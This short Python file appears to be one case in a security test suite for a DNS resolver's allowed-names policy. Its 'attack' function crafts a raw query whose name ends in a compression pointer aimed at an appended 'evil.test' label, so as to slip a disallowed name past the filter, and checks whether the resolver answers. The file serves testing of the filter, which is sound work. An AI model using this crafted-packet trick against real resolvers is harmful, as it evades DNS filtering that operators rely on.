"""A name with a pointer
Writes the name so that its end is reached by a compression pointer.
policy: allowed-names
audit: dnsQuery
proof: arrival
"""
import struct


def attack(at):
    asker = at.udp()
    label = struct.pack('B', len(at.token)) + at.token
    packet = at.query(b'x')[:12] + label + b'\xc0' + struct.pack('B', 12 + len(label) + 2 + 4) + b'\0\1\0\1'
    asker.sendto(packet + b'\4evil\4test\0', (at.RESOLVER, 53))
    return b'evil' in asker.recv(500)
